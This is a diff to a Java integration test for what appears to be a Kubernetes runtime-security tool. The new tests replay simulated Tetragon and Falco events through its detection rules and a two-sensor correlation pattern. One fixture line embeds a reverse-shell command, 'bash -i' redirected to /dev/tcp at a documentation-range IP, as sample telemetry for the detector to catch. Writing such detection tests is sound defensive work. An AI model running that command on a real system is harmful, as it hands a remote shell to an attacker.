@@ -17,7 +17,9 @@ import io.kubeguardian.schema.Topics;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.Base64;
 import java.util.HashMap;
+import java.util.List;
 import java.util.Map;
 import org.apache.kafka.clients.producer.KafkaProducer;
 import org.apache.kafka.clients.producer.ProducerRecord;
@@ -28,6 +30,8 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
 class ReplayCommandIT {
+    private static final Path PROJECT = Path.of("..").toAbsolutePath().normalize();
+    private static final String POD_UID = "6d4cf56d-1111-4000-8000-000000000001";
     private static final Path CAPTURES = Path.of("demo/capture");
     private static final String SHELL = "Shell spawned by a server process";
 
@@ -95,7 +99,78 @@ class ReplayCommandIT {
         assertThat(run.code()).isZero();
         assertThat(run.out()).contains("28 events of 1 pod").contains(SHELL).contains("shop/Deployment/orders");
         assertThat(run.err()).contains("1 malformed record left out");
-        assertThat(Evidence.of(java.util.List.of(kept)).events()).isEqualTo(28);
+        assertThat(Evidence.of(List.of(kept), List.of(kept)).events()).isEqualTo(28);
+    }
+
+    /** Tetragon v1.4's format is that of its API's documentation (GetEventsResponse), Falco's that of its "Outputs". */
+    @Test
+    void jsonOfOtherSensorsIsReplayedTogether() throws Exception {
+        System.setProperty("kubeguardian.home", PROJECT.toString());
+        Path tetragon = Files.writeString(folder.resolve("tetragon.json"), """
+                {"process_exec": {"process": %2$s, "parent": %1$s}, "node_name": "worker-1", "time": "2026-03-01T10:00:40Z"}
+                no JSON at all
+                {"process_exit": {"process": %2$s, "parent": %1$s}, "node_name": "worker-1", "time": "2026-03-01T10:00:41Z"}
+                """.formatted(process(5, 1100, "/srv/orders", "--port 80", "procFS auid", ""),
+                process(40, 1200, "/bin/bash", "-c \\\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\\\"", "execve clone",
+                        ", \"parent_exec_id\": \"" + execId(5, 1100) + "\"")));
+        Path falco = Files.writeString(folder.resolve("falco.json"), """
+                {"hostname": "worker-1", "output": "Warning A shell", "priority": "Warning", "rule": "Terminal shell in container",
+                 "source": "syscall", "time": "2026-03-01T10:00:41Z", "tags": ["T1059"], "output_fields": {
+                 "container.id": "abababababab", "k8s.ns.name": "shop", "k8s.pod.name": "orders-1", "k8s.pod.uid": "%s"}}
+                """.formatted(POD_UID).replace("\n", "") + "\n");
+        Files.writeString(folder.resolve("pattern.yaml"), """
+                title: Shell seen by two sensors
+                id: two-sensors
+                description: A shell under a server, and Falco says so too.
+                level: critical
+                correlation:
+                  type: temporal_ordered
+                  rules: [Reverse shell command line, Terminal shell in container]
+                  group-by: [k8s.pod.uid]
+                  timespan: 5m
+                """);
+        Path config = Files.writeString(folder.resolve("kubeguardian.yaml"),
+                "ingest: {cluster: prod}\ndetection: {patterns: [\"" + folder.resolve("pattern.yaml") + "\"]}\n");
+
+        CommandRun run = CommandRun.of("replay", "--format", "json", "--config", config.toString(), tetragon.toString(),
+                falco.toString());
+
+        assertThat(run.code()).as(run.err()).isZero();
+        JsonNode report = new ObjectMapper().readTree(run.out());
+        assertThat(report.at("/evidence/captures/0").asText()).isEqualTo(tetragon.toString());
+        assertThat(report.at("/evidence/foreignAlerts").asInt()).isEqualTo(1);
+        assertThat(report.at("/evidence/pods").asInt()).isEqualTo(1);
+        assertThat(report.at("/rules/byRule").path("Reverse shell command line").asInt()).isEqualTo(1);
+        assertThat(report.at("/rules/byRule").path("Terminal shell in container").asInt()).isEqualTo(1);
+        assertThat(report.at("/rules/byRule").path("incident: two-sensors").asInt()).isEqualTo(1);
+        assertThat(run.err()).contains("tetragon.json: 1 of 3 lines left out; line 2: not acceptable JSON");
+    }
+
+    @Test
+    void jsonOfNoSensorIsToldInALine() throws Exception {
+        System.setProperty("kubeguardian.home", PROJECT.toString());
+        Path file = Files.writeString(folder.resolve("other.json"), "{\"kind\": \"Pod\"}\n{\"rule\": 1, \"priority\"\n");
+
+        CommandRun run = CommandRun.of("replay", file.toString());
+
+        assertThat(run.code()).isEqualTo(2);
+        assertThat(run.err()).contains(file + ": neither Tetragon's JSON export nor Falco's JSON alerts");
+        assertThat(run.out()).isEmpty();
+    }
+
+    private static String process(int second, int pid, String binary, String arguments, String flags, String more) {
+        return """
+                {"exec_id": "%s", "pid": %d, "uid": 1000, "cwd": "/srv", "binary": "%s", "arguments": "%s", "flags": "%s",
+                 "start_time": "2026-03-01T10:00:%02dZ", "auid": 4294967295, "pod": {"namespace": "shop", "name": "orders-1",
+                 "uid": "%s", "workload": "orders", "workload_kind": "Deployment", "container": {"id": "containerd://%s",
+                 "name": "orders", "image": {"name": "docker.io/shop/orders:1.2"}}}%s}"""
+                .formatted(execId(second, pid), pid, binary, arguments, flags, second, POD_UID, "ab".repeat(32), more)
+                .replace("\n", "");
+    }
+
+    private static String execId(int second, int pid) {
+        return Base64.getEncoder()
+                .encodeToString(("worker-1:" + second + "000000000:" + pid).getBytes(StandardCharsets.UTF_8));
     }
 
     /** The attack with the pod's metadata, a record of an hour and a half ago, and one that is no batch. */
@@ -131,14 +206,14 @@ class ReplayCommandIT {
 
     @ParameterizedTest
     @CsvSource(delimiter = '|', value = {
-        "replay | replay needs capture files",
+        "replay | replay needs files with events",
         "replay nope.avro | nope.avro: no such file",
         "replay pom.xml | pom.xml: not a capture file",
         "replay --from yesterday | --from is yesterday; expected a time",
         "replay --from 1h --to 2h | is not before --to 2h",
         "replay --from 1h --bootstrap-servers localhost:1 | localhost:1 does not answer",
         "replay demo/capture/attack.avro --rules nope.yaml | nope.yaml",
-        "replay demo/capture/attack.avro --from 1h | replay needs capture files",
+        "replay demo/capture/attack.avro --from 1h | replay needs files with events",
     })
     void wrongUseIsToldInALine(String command, String message) {
         CommandRun run = CommandRun.of(command.split(" "));
